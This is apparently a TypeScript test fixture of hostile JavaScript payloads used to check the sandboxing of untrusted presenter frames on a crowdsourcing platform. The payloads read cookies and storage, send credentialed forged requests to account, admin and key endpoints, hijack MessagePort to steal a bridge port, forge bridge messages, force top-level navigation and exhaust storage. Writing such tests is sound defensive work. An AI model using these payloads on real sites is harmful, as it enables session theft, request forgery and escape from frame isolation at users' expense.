// What hostile presenters run in their frame. Texts, because they run in a page and not here.

/** The names of what goes wrong, or what can be read, when a presenter looks around. */
export const LOOK_AROUND = `(() => {
  const attempt = (read) => { try { return String(read()) } catch (error) { return error.name } }
  return {
    cookie: attempt(() => document.cookie),
    storage: attempt(() => Object.keys(localStorage).join()),
    page: attempt(() => parent.document.title),
    address: attempt(() => top.location.href),
  }
})()`

/** Calls to the site with the visitor's cookies, each ending as what could be read of the answer. */
export function callWithCookies(site: string, run: object): string {
  return `(async () => {
    const send = async (path, init) => {
      try {
        const answer = await fetch(${JSON.stringify(site)} + path, { credentials: 'include', ...init })
        return answer.type + ' ' + answer.status + ' ' + await answer.text()
      } catch (error) { return error.name }
    }
    // Not by the fetch of the frame, which would ask the page around it.
    const askAtOnce = (path, body) => {
      try {
        const request = new XMLHttpRequest()
        request.open('POST', ${JSON.stringify(site)} + path, false)
        request.withCredentials = true
        request.setRequestHeader('content-type', 'application/json')
        request.send(body)
        return request.status + request.responseText
      } catch (error) { return error.name }
    }
    const body = ${JSON.stringify(JSON.stringify(run))}
    const form = new URLSearchParams({ name: 'forged' })
    return [
      await send('/account/profile', {}),
      await send('/api/user', {}),
      await send('/account', {}),
      await send('/admin', {}),
      askAtOnce('/api/taskrun', body),
      String(navigator.sendBeacon(${JSON.stringify(site)} + '/api/taskrun', new Blob([body], { type: 'text/plain' }))),
      await send('/account/signout', { method: 'POST', body: form, mode: 'no-cors' }),
      await send('/account/keys', { method: 'POST', body: form, mode: 'no-cors' }),
    ]
  })()`
}

/** A form that a browser sends with cookies where their rules allow it. */
export function sendForm(action: string): string {
  return `(() => {
    const target = document.createElement('iframe')
    target.name = 'target'
    const form = document.createElement('form')
    Object.assign(form, { method: 'post', action: ${JSON.stringify(action)}, target: 'target' })
    document.body.append(target, form)
    form.submit()
  })()`
}

/** Presenters share a world with the script that speaks for them, so they can get hold of its port. */
export const STEAL_PORT = `(async () => {
  const { prototype } = MessagePort
  const { postMessage } = prototype
  prototype.postMessage = function (...message) {
    window.stolen = this
    postMessage.apply(this, message)
  }
  await pybossa.userProgress('birds')
  prototype.postMessage = postMessage
})()`

/** A request written by hand on the stolen port; ends as its status. */
export function askOverPort(request: { method: string; path: string; body?: unknown }): string {
  return `new Promise((resolve) => {
    const id = 1000000 + Math.floor(Math.random() * 1000000)
    stolen.addEventListener('message', ({ data }) => {
      const message = JSON.parse(data)
      if (message.id === id) resolve(message.status)
    })
    stolen.postMessage(JSON.stringify({ type: 'request', id, query: {}, ...${JSON.stringify(request)} }))
  })`
}

/** Messages of the bridge from a frame inside the presenter's, and past the port; a hello of its own costs it its port. */
export const FORGE_MESSAGES = `(() => {
  const texts = ['{"manyhands":"hello","version":2,"document":"forged"}', '{"type":"finished"}', '{"type":"navigate","path":"/account/profile"}']
  const inner = document.createElement('iframe')
  inner.srcdoc = '<script>' + \`
    addEventListener('message', ({ ports }) => { if (ports[0]) ports[0].postMessage('{"type":"finished"}') })
    for (const text of \${JSON.stringify(texts)}) { top.postMessage(text, '*'); parent.postMessage(text, '*') }
  \` + '</' + 'script>'
  document.body.append(inner)
  for (const text of texts.slice(1)) parent.postMessage(text, '*')
})()`

/** Every way out of the frame that needs no press. */
export const TAKE_AWAY = `(() => {
  const ways = [
    () => { top.location.href = 'about:blank#taken' },
    () => { window.open('about:blank#taken', '_top') },
    () => {
      const link = Object.assign(document.createElement('a'), { href: 'about:blank#taken', target: '_top' })
      document.body.append(link)
      link.click()
    },
    () => { stolen.postMessage('{"type":"navigate","path":"/account/profile"}') },
    () => { stolen.postMessage('{"type":"navigate","path":"https://elsewhere.example/"}') },
  ]
  for (const way of ways) { try { way() } catch {} }
})()`

export const LEAVE_PAGE = `location.href = 'about:blank'`

export const FLOOD = `(() => {
  for (let n = 0; n < 4000; n += 1) stolen.postMessage('{"type":"resize","height":100}')
})()`

/** Fills every store that a page of this origin has, as far as the browser goes along; ends as how far that was. */
export const EXHAUST_STORAGE = `(async () => {
  const chunk = 'x'.repeat(500000)
  let count = 0
  for (const store of [() => localStorage, () => sessionStorage]) {
    try { for (let n = 0; n < 40; n += 1) { store().setItem('fill' + n, chunk); count += 1 } } catch {}
  }
  try { for (let n = 0; n < 400; n += 1) document.cookie = 'fill' + n + '=' + 'x'.repeat(3000) + '; path=/' } catch {}
  return count
})()`

/** What another presenter's page left where a page of this origin can look. */
export const READ_STORAGE = `(() => {
  const attempt = (read) => { try { return String(read()) } catch (error) { return '' } }
  return [
    attempt(() => localStorage.getItem('secret')),
    attempt(() => sessionStorage.getItem('secret')),
    attempt(() => document.cookie),
  ].join()
})()`

export const LEAVE_SECRET = `(() => {
  for (const leave of [
    () => localStorage.setItem('secret', 'of-birds'),
    () => sessionStorage.setItem('secret', 'of-birds'),
    () => { document.cookie = 'secret=of-birds; path=/' },
  ]) { try { leave() } catch {} }
})()`
